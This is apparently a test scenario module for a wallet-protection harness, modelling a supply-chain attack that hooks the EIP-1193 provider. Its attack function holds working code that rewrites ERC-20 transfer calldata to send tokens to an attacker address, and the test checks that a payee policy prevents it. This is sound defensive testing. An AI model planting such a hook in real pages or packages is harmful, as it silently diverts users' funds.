// A10, as a hook: the recipient word of transfer becomes the attacker.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A10',
  title: 'token transfer redirected, by a hook on the provider',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.TOKEN}`] }),

  attack(a) {
    const before = window.ethereum.request;
    window.ethereum.request = async function (call) {
      const copy = JSON.parse(JSON.stringify(call));
      const tx = copy.params?.[0];
      if (tx?.data?.startsWith('0xa9059cbb'))
        tx.data = `0xa9059cbb${a.EVIL.slice(2).padStart(64, '0')}${tx.data.slice(74)}`;
      return before.call(this, copy);
    };
  },

  async action(a, app) {
    return app.transfer(a.GOOD, 7n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD) && !reachedWallet(wallet, a.EVIL),
  violation: { surface: 'eip1193', grade: 'tamper' },
};
